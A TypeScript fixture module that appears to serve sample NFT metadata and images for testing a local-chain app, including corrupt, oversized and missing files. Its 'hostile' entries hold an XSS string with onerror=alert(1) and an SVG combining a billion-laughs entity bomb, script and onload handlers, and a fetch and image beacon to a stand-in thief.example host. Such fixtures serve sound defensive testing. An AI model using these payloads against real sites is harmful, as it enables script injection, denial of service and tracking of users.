import { randomBytes } from 'node:crypto'
import { doorway } from '../contracts/doorway.js'
import { encodePng, signature } from './png.js'

/** What an NFT of the seeded life shows: a name, and a picture of every kind that strangers send. */
export interface Work {
  readonly name: string
  /** File below `/art/`. */
  readonly picture: string
}

/** By the file of the metadata below `/art/`, without `.json`. */
export const works = {
  dusk: { name: 'Dusk over the harbour', picture: 'dusk.png' },
  window: { name: 'Window in the evening', picture: 'window.svg' },
  broken: { name: 'Torn print', picture: 'broken.png' },
  hostile: { name: 'Look <img src=x onerror=alert(1)> here', picture: 'hostile.svg' },
  huge: { name: 'A wall of noise', picture: 'huge.png' },
  missing: { name: 'Lost negative', picture: 'missing.png' },
} as const satisfies Record<string, Work>

export type WorkName = keyof typeof works

export interface ArtFile {
  readonly type: string
  readonly bytes: string | Buffer
}

/** A file of the works by its name below `/art/`; undefined where there is none, as with the picture of `missing`. */
export function workFile(file: string, artUrl: string): ArtFile | undefined {
  const [name = '', kind] = file.split('.')
  if (kind === 'json') {
    if (!Object.hasOwn(works, name)) return undefined
    const { name: title, picture } = works[name as WorkName]
    const text = JSON.stringify({ name: title, description: 'A work on a local chain.', image: `${artUrl}/${picture}` })
    return { type: 'application/json', bytes: text }
  }
  switch (file) {
    case 'dusk.png':
      return png(dusk())
    case 'window.svg':
      return { type: 'image/svg+xml', bytes: doorway(262) }
    case 'broken.png':
      return png(Buffer.concat([signature, Buffer.from('not what the signature says')]))
    case 'hostile.svg':
      return { type: 'image/svg+xml', bytes: hostile }
    case 'huge.png':
      return png(noise())
    default:
      return undefined
  }
}

const png = (bytes: Buffer): ArtFile => ({ type: 'image/png', bytes })

/** A sun above a line of water. */
function dusk(): Buffer {
  const side = 320
  const colorAt = (x: number, y: number): [number, number, number] => {
    const depth = y / side
    if ((x - 200) ** 2 + (y - 150) ** 2 < 52 ** 2 && y < 190) return [255, 214 - Math.round(depth * 60), 140]
    if (y >= 190) return [24 + ((x + y * 3) % 26), 44 + Math.round(depth * 20), 82]
    return [70 + Math.round(depth * 250), 58 + Math.round(depth * 120), 120 + Math.round(depth * 20)]
  }
  return encodePng({ width: side, height: side, colorAt })
}

/** More than ten million bytes: no picture that anybody should have to load. */
function noise(): Buffer {
  const side = 1900
  const random = randomBytes(side * side * 3)
  const at = (index: number): number => random[index] ?? 0
  const colorAt = (x: number, y: number): [number, number, number] => {
    const first = (y * side + x) * 3
    return [at(first), at(first + 1), at(first + 2)]
  }
  return encodePng({ width: side, height: side, colorAt, level: 0 })
}

/** What an SVG can try: run a script, call home, and unfold to more than memory holds. */
const hostile = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 320 320" onload="alert(1)">
<script>fetch('https://thief.example')</script><image xlink:href="https://thief.example/pixel.png" width="1" height="1"/>
<foreignObject width="320" height="320"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>
<text>&f;&f;&f;&f;&f;&f;&f;&f;</text></svg>`
